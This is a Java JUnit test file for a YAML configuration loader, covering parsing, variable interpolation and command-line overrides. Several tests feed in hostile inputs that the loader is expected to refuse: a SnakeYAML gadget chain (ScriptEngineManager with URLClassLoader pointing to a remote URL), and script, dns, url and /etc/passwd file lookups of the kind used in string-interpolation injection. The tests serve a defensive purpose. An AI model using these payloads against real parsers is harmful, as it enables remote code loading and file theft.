package dev.m6rec.core.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.m6rec.api.ConfigException;
import dev.m6rec.api.config.ConfigProblem;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConfigLoaderTest {
    private static final Map<String, String> ENV = Map.of("M6_DATA", "/srv/data", "M6_EPOCHS", "12");
    private static final Map<String, String> SYS = Map.of("m6.seed", "7");
    private final ConfigLoader loader = new ConfigLoader(ENV::get, SYS::get);

    @TempDir
    Path dir;

    private Path write(String yaml) throws IOException {
        Path file = dir.resolve("run.yaml");
        Files.writeString(file, yaml);
        return file;
    }

    private RawConfig load(String yaml, String... overrides) throws IOException {
        return loader.read(write(yaml), List.of(overrides));
    }

    private List<String> problems(String yaml, String... overrides) throws IOException {
        Path file = write(yaml);
        try {
            loader.read(file, List.of(overrides));
        } catch (ConfigException e) {
            return e.problems().stream().map(ConfigProblem::toString).toList();
        }
        throw new AssertionError("expected a ConfigException");
    }

    @Test
    void keepsThePlainTreeWithListsOrderAndDottedKeys() throws IOException {
        RawConfig raw = load("""
                interest: {type: mlp, hidden: [64], dropout: [], epochs: 3}
                data:
                  type: csv
                  path: ratings.csv
                optimizer:
                  type: tpe
                  space:
                    interest.hidden[0]: {int: [32, 256]}
                """);
        assertThat(raw.source()).isEqualTo(dir.resolve("run.yaml"));
        assertThat(raw.tree()).containsOnlyKeys("interest", "data", "optimizer");
        assertThat(List.copyOf(raw.tree().keySet())).containsExactly("interest", "data", "optimizer");
        assertThat(raw.get("interest.hidden")).contains(List.of(64));
        assertThat(raw.get("interest.dropout")).contains(List.of());
        assertThat(raw.get("interest.epochs")).contains(3);
        assertThat(raw.get("optimizer.space")).contains(Map.of("interest.hidden[0]", Map.of("int", List.of(32, 256))));
    }

    @Test
    void anEmptyFileIsAnEmptyTree() throws IOException {
        assertThat(load("# nothing yet\n").tree()).isEmpty();
    }

    @Test
    void aMissingFileNamesThePath() {
        Path missing = dir.resolve("nope.yaml");
        assertThatThrownBy(() -> loader.read(missing, List.of()))
                .isInstanceOf(ConfigException.class)
                .hasMessage(missing + ": config file not found");
    }

    @Test
    void aJavaClassTagIsRefusedWithFileAndLineAndNothingIsConstructed() throws IOException {
        Path file = write("""
                data: {type: synthetic}
                interest: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                similarity: !!dev.m6rec.core.config.Tripwire {}
                """);
        assertThatThrownBy(() -> loader.read(file, List.of()))
                .isInstanceOf(ConfigException.class)
                .hasMessage("4 configuration problems:\n"
                        + "  " + file + ":2: tag '!!javax.script.ScriptEngineManager' is not allowed; config values are plain scalars, lists and mappings\n"
                        + "  " + file + ":2: tag '!!java.net.URLClassLoader' is not allowed; config values are plain scalars, lists and mappings\n"
                        + "  " + file + ":2: tag '!!java.net.URL' is not allowed; config values are plain scalars, lists and mappings\n"
                        + "  " + file + ":3: tag '!!dev.m6rec.core.config.Tripwire' is not allowed; config values are plain scalars, lists and mappings");
        assertThat(Tripwire.constructed).isZero();
    }

    @Test
    void standardAndVerbatimGlobalTagsAndLocalTagsAreRefused() throws IOException {
        Path file = dir.resolve("run.yaml");
        assertThat(problems("""
                seed: !!str 42
                data:
                  type: !<tag:yaml.org,2002:java.lang.Object> x
                interest: !mlp {}
                """)).containsExactly(
                file + ":1: tag '!!str' is not allowed; config values are plain scalars, lists and mappings",
                file + ":3: tag '!!java.lang.Object' is not allowed; config values are plain scalars, lists and mappings",
                file + ":4: tag '!mlp' is not allowed; config values are plain scalars, lists and mappings");
    }

    @Test
    void syntaxErrorsNameFileLineAndColumn() throws IOException {
        Path file = dir.resolve("run.yaml");
        assertThat(problems("""
                interest:
                  type: mlp
                  hidden: [64, 32
                seed: 1
                """)).containsExactly(file + ":4:5: expected ',' or ']', but got : (while parsing a flow sequence)");
        assertThat(problems("""
                interest:
                  type: mlp
                 epochs: 3
                """)).containsExactly(file + ":3:2: expected <block end>, but found '<block mapping start>' (while parsing a block mapping)");
    }

    @Test
    void duplicateKeysSeveralDocumentsAndANonMappingTopLevelAreRefused() throws IOException {
        Path file = dir.resolve("run.yaml");
        assertThat(problems("""
                interest:
                  type: mlp
                  type: bpr
                """)).containsExactly(file + ":3: duplicate key 'type'");
        assertThat(problems("seed: 1\n---\nseed: 2\n")).containsExactly(file + ":2: only one YAML document is allowed");
        assertThat(problems("- data\n- interest\n"))
                .containsExactly(file + ":1: the top level must be a mapping of sections such as 'data:' and 'interest:'");
    }

    @Test
    void interpolatesEnvironmentVariablesAndSystemProperties() throws IOException {
        RawConfig raw = load("""
                seed: ${sys:m6.seed}
                data: {type: csv, path: "${env:M6_DATA}/ml-100k/u.data"}
                interest: {type: mlp, epochs: "${env:M6_EPOCHS}", note: "costs $${env:M6_DATA} literally"}
                output: {dir: "${env:M6_OUT:-runs}/${sys:m6.run:-quick}-${sys:m6.seed:-0}"}
                """);
        assertThat(raw.get("seed")).contains("7");
        assertThat(raw.get("data.path")).contains("/srv/data/ml-100k/u.data");
        assertThat(raw.get("interest.epochs")).contains("12");
        assertThat(raw.get("interest.note")).contains("costs ${env:M6_DATA} literally");
        assertThat(raw.get("output.dir")).contains("runs/quick-7");
    }

    @Test
    void theStaticLoaderReadsTheRealSystemProperties() throws IOException {
        RawConfig raw = ConfigLoader.load(write("data: {type: csv, path: '${sys:java.version}'}\n"), List.of());
        assertThat(raw.get("data.path")).contains(System.getProperty("java.version"));
    }

    @Test
    void aMissingVariableNamesTheKeyPath() throws IOException {
        assertThat(problems("""
                data: {type: csv, path: "${env:M6_NOPE}/u.data"}
                features:
                  user: [{type: numeric, fields: ["${sys:no.such}"]}]
                """)).containsExactly(
                "data.path: environment variable 'M6_NOPE' is not set",
                "features.user[0].fields[0]: system property 'no.such' is not set");
    }

    @Test
    void onlyEnvAndSysLookupsExist() throws IOException {
        assertThat(problems("""
                a: "${script:javascript:java.lang.Runtime.getRuntime()}"
                b: "${dns:address|example.com}"
                c: "${url:UTF-8:http://example.com}"
                d: "${file:UTF-8:/etc/passwd}"
                e: "x ${HOME} y"
                """)).containsExactly(
                "a: '${script:javascript:java.lang.Runtime.getRuntime()}' cannot be resolved; only ${env:NAME} and ${sys:name} are supported",
                "b: '${dns:address|example.com}' cannot be resolved; only ${env:NAME} and ${sys:name} are supported",
                "c: '${url:UTF-8:http://example.com}' cannot be resolved; only ${env:NAME} and ${sys:name} are supported",
                "d: '${file:UTF-8:/etc/passwd}' cannot be resolved; only ${env:NAME} and ${sys:name} are supported",
                "e: '${HOME}' cannot be resolved; only ${env:NAME} and ${sys:name} are supported");
    }

    @Test
    void setOverridesReplaceAddAndIndexValuesParsedAsYaml() throws IOException {
        String yaml = """
                interest: {type: mlp, hidden: [128, 64], epochs: 20}
                features:
                  user: [{type: categorical, fields: [gender]}]
                """;
        RawConfig raw = load(yaml, "interest.epochs=30", "interest.hidden[0]=96", "interest.loss.click=0.25",
                "features.user[1].type=numeric", "features.user[1].fields=[age]", "interest.activation = tanh",
                "data.path=a: b #c", "seed=${env:M6_EPOCHS}");
        assertThat(raw.get("interest.epochs")).contains(30);
        assertThat(raw.get("interest.hidden")).contains(List.of(96, 64));
        assertThat(raw.get("interest.loss.click")).contains(0.25);
        assertThat(raw.get("features.user[1]")).contains(Map.of("type", "numeric", "fields", List.of("age")));
        assertThat(raw.get("interest.activation")).contains("tanh");
        assertThat(raw.get("data.path")).contains("a: b #c");
        assertThat(raw.get("seed")).contains("12");

        RawConfig replaced = load(yaml, "interest.hidden=[64, 32, 16]", "interest.hidden.2=8", "interest.flags={a: true}");
        assertThat(replaced.get("interest.hidden")).contains(List.of(64, 32, 8));
        assertThat(replaced.get("interest.flags.a")).contains(true);

        // A value that is not a flow collection is a plain scalar: a tag in it is just text.
        RawConfig text = load(yaml, "interest.type=!!javax.script.ScriptEngineManager []");
        assertThat(text.get("interest.type")).contains("!!javax.script.ScriptEngineManager []");
    }

    @Test
    void badOverridesNameTheKeyPath() throws IOException {
        assertThat(problems("interest: {type: mlp, hidden: [128, 64], epochs: 20}\n",
                "interest.hidden[5]=3", "interest.epochs.x=1", "nokey", "interest..x=1", "interest.hidden=[1,",
                "interest.x=[!!java.net.URL []]")).containsExactly(
                "interest.hidden[5]: --set: index 5 is past the end of 'interest.hidden' (2 elements)",
                "interest.epochs.x: --set: 'interest.epochs' is 20, not a mapping",
                "--set nokey: expected key=value",
                "--set interest..x=1: invalid key path 'interest..x'",
                "interest.hidden: --set value [1,: expected the node content, but found '<stream end>' (while parsing a flow node)",
                "interest.x: --set value [!!java.net.URL []]: tag '!!java.net.URL' is not allowed; config values are plain scalars, lists and mappings");
    }
}
